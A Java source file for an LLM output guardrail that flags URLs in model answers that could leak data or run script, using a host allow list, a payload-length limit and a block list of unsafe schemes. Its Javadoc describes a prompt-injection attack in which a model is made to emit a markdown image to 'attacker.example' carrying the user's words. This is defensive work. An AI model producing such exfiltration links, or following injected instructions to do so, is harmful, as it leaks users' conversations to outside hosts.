package io.llmops.guardrails.link;

import io.llmops.guardrails.Finding;
import io.llmops.guardrails.Guardrail;
import io.llmops.guardrails.HoldBack;
import io.llmops.guardrails.Text;
import io.llmops.guardrails.Verdict;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;

/**
 * Finds addresses in answers by which data leave or code runs. An injected instruction makes a model write
 * {@code ![](https://attacker.example/?q=what the user said)}, and whoever shows the answer fetches it.
 *
 * <ul>
 *   <li>{@code embedded_url}: an image, frame or reference whose host is not allowed: fetched without a click.
 *   <li>{@code link_with_data}: a link to a host that is not allowed and takes more than {@value #DEFAULT_PAYLOAD}
 *       characters along behind its path; {@link #withPayload} sets another number.
 *   <li>{@code unsafe_url}: {@code javascript:}, {@code vbscript:}, {@code file:}, {@code data:} other than pictures, and
 *       addresses with a name before the host, which look as if they led elsewhere.
 * </ul>
 *
 * <p>Findings cover the address alone, so the rest of the answer stays readable. It does not follow redirects, nor judge an
 * allowed host, nor see addresses that are put together by whoever shows the answer. For answers; of use on tool calls too.
 * In streams it holds back the address that is being written. Immutable and thread-safe.
 */
public final class LinkGuardrail implements Guardrail {

    /** What a link may take along behind its path to any host. */
    public static final int DEFAULT_PAYLOAD = 32;

    private static final Set<String> UNSAFE = Set.of("javascript", "vbscript", "file", "data", "blob", "filesystem");
    private static final Set<String> WITH_HOST = Set.of("http", "https", "ftp", "ws", "wss", "");
    private static final int LONGEST_SCHEME = 12;
    private static final HoldBack HOLD_BACK =
            HoldBack.characters(Url.MAX_LENGTH + 2).withContext(Place.CONTEXT);

    private final Set<String> hosts;
    private final int payload;

    private LinkGuardrail(Set<String> hosts, int payload) {
        this.hosts = hosts;
        this.payload = payload;
    }

    /**
     * Allows these hosts, and no other.
     *
     * @param hosts such as {@code docs.example.com}; {@code *.example.com} allows all below that
     */
    public static LinkGuardrail allowing(String... hosts) {
        Set<String> small =
                Stream.of(hosts).map(host -> host.toLowerCase(Locale.ROOT)).collect(Collectors.toUnmodifiableSet());
        for (String host : small) {
            if (host.isBlank() || host.contains("/") || host.contains(":") || host.equals("*")) {
                throw new IllegalArgumentException(
                        "An allowed host is a name such as docs.example.com or *.example.com: '" + host + "'");
            }
        }
        return new LinkGuardrail(small, DEFAULT_PAYLOAD);
    }

    /** The same, but links to other hosts may take so many characters along; 0 for none. */
    public LinkGuardrail withPayload(int characters) {
        if (characters < 0) {
            throw new IllegalArgumentException("A link takes 0 characters or more along: " + characters);
        }
        return new LinkGuardrail(hosts, characters);
    }

    @Override
    public String name() {
        return "link";
    }

    @Override
    public HoldBack holdBack() {
        return HOLD_BACK;
    }

    @Override
    public Verdict check(Text text) {
        String content = text.content();
        List<Finding> findings = new ArrayList<>(0);
        for (int i = 0; i < content.length(); i++) {
            char c = content.charAt(i);
            if (c == ':') {
                find(content, scheme(content, i), i, findings);
            } else if (c == '/' && isWithoutScheme(content, i)) {
                find(content, i, -1, findings);
            }
        }
        return text.complete() ? Verdict.of(findings) : Verdict.of(findings, unfinished(content));
    }

    /** Where the address that is being written begins, if one is: whatever it is, it holds no white space. */
    private static int unfinished(String content) {
        int earliest = Math.max(0, content.length() - Url.MAX_LENGTH - 2);
        int start = content.length();
        while (start > earliest && Url.mayContain(content.charAt(start - 1))) {
            start--;
        }
        return start;
    }

    /** Where the scheme begins that ends at this colon; the colon itself if there is none. */
    private static int scheme(String content, int colon) {
        int start = colon;
        while (start > 0 && colon - start <= LONGEST_SCHEME && isLetter(content.charAt(start - 1))) {
            start--;
        }
        return start;
    }

    private static boolean isLetter(char c) {
        return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
    }

    /** Two slashes in a place for an address take the scheme of the page. */
    private static boolean isWithoutScheme(String content, int index) {
        return content.startsWith("//", index)
                && index > 0
                && "(=\"'".indexOf(content.charAt(index - 1)) >= 0
                && Place.of(content, index) != Place.PLAIN;
    }

    private void find(String content, int start, int colon, List<Finding> findings) {
        String scheme = colon < 0 ? "" : content.substring(start, colon).toLowerCase(Locale.ROOT);
        if (start == colon || !(UNSAFE.contains(scheme) || WITH_HOST.contains(scheme))) {
            return;
        }
        Url url = Url.at(content, start, colon);
        String category = category(content, url);
        if (category != null) {
            findings.add(new Finding(url.start(), url.end(), category, rule(url), 1));
        }
    }

    private @Nullable String category(String content, Url url) {
        Place place = Place.of(content, url.start());
        if (UNSAFE.contains(url.scheme())) {
            return place == Place.PLAIN || isPicture(content, url) ? null : "unsafe_url";
        }
        if (url.host().isEmpty() || isAllowed(url.host())) {
            return null;
        }
        if (url.userInfo()) {
            return "unsafe_url";
        }
        if (place == Place.EMBEDDED) {
            return "embedded_url";
        }
        return url.payload() > payload ? "link_with_data" : null;
    }

    private static String rule(Url url) {
        return url.userInfo() ? "user-info" : UNSAFE.contains(url.scheme()) ? "scheme" : "host";
    }

    private static boolean isPicture(String content, Url url) {
        return url.scheme().equals("data")
                && Stream.of("png", "jpeg", "gif", "webp")
                        .anyMatch(kind ->
                                content.regionMatches(true, url.start(), "data:image/" + kind, 0, 11 + kind.length()));
    }

    private boolean isAllowed(String host) {
        if (hosts.contains(host)) {
            return true;
        }
        for (int dot = host.indexOf('.'); dot >= 0; dot = host.indexOf('.', dot + 1)) {
            if (hosts.contains("*" + host.substring(dot))) {
                return true;
            }
        }
        return false;
    }
}
